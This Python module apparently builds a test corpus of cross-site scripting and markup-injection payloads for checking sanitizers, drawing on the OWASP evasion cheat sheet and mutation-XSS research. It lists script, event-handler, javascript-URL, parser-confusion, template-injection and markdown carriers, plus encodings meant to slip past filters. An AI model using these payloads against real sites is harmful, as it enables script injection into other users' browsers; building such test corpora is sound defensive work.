"""Texts that would run a script, or call another machine, if any place showed them as markup.

They are built from what is known to run (the OWASP cheat sheet on XSS filter evasion, and mutation
XSS as by Heiderich et al., “mXSS attacks”, CCS 2013): what to run, in what carries it, in what
hides it.
"""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

ELSEWHERE = "elsewhere.example"
MARK = "__owned"

_RUN = f"window.{MARK}=1"
_CALL = f"//{ELSEWHERE}/x"

_CARRIERS = (
    # Elements that run what they hold, or what they are told to run on an event.
    "<script>{run}</script>",
    "<script src={call}></script>",
    "<img src=x onerror={run}>",
    "<img src={call}>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    "<svg><image href={call} /></svg>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe src={call}></iframe>",
    "<object data={call}></object>",
    "<embed src=javascript:{run}>",
    "<video src={call} onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>",
    "<a href=javascript:{run} autofocus onfocus={run}>a</a>",
    "<a href=data:text/html,<script>{run}</script>>a</a>",
    "<form action=javascript:{run}><input type=submit autofocus onfocus={run}></form>",
    "<meta http-equiv=refresh content='0;url={call}'>",
    "<link rel=stylesheet href={call}>",
    "<base href={call}>",
    "<style>@import '{call}';*{{background:url({call})}}</style>",
    "<p style='background:url({call})'>a</p>",
    # What a parser makes another tree of than its reader thought.
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={run}'>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<template><script>{run}</script></template><xmp></xmp><img src=x onerror={run}>",
    "<select><keygen><img src=x onerror={run}></select>",
    # What another language than HTML would run.
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{constructor.constructor('{run}')()}}",
    "<%= {run} %>",
    "[a](javascript:{run})",
    "![a](https:{call})",
    "[a]: https:{call} 'a'",
    "<https:{call}>",
)

_ENDINGS = ("", '">', "'>", "-->", "</script>", "</textarea></title></style>", "]]>", "*/")
"""What would end the place that a text stands in."""


def _hidden(text: str) -> Iterator[str]:
    """The text as it is, and as a filter might not know it but a browser would."""
    yield text
    yield text.swapcase().replace(_RUN.swapcase(), _RUN).replace(_CALL.swapcase(), _CALL)
    yield escape(text)
    yield "".join(f"&#{ord(character)};" for character in text[:80])
    yield text.replace(" ", "/")
    yield f"\u202e{text}\u202c\u2066"
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield quote(text)


def injections() -> list[str]:
    """All of them, each with a number that distinguishes it from the others."""
    carried = [text.format(run=_RUN, call=_CALL) for text in _CARRIERS]
    plain = [end + text for text in carried for end in ("", _ENDINGS[len(text) % len(_ENDINGS)])]
    hidden = [text for carrier in carried for text in list(_hidden(carrier))[1:]]
    return list(dict.fromkeys([*plain, *hidden]))
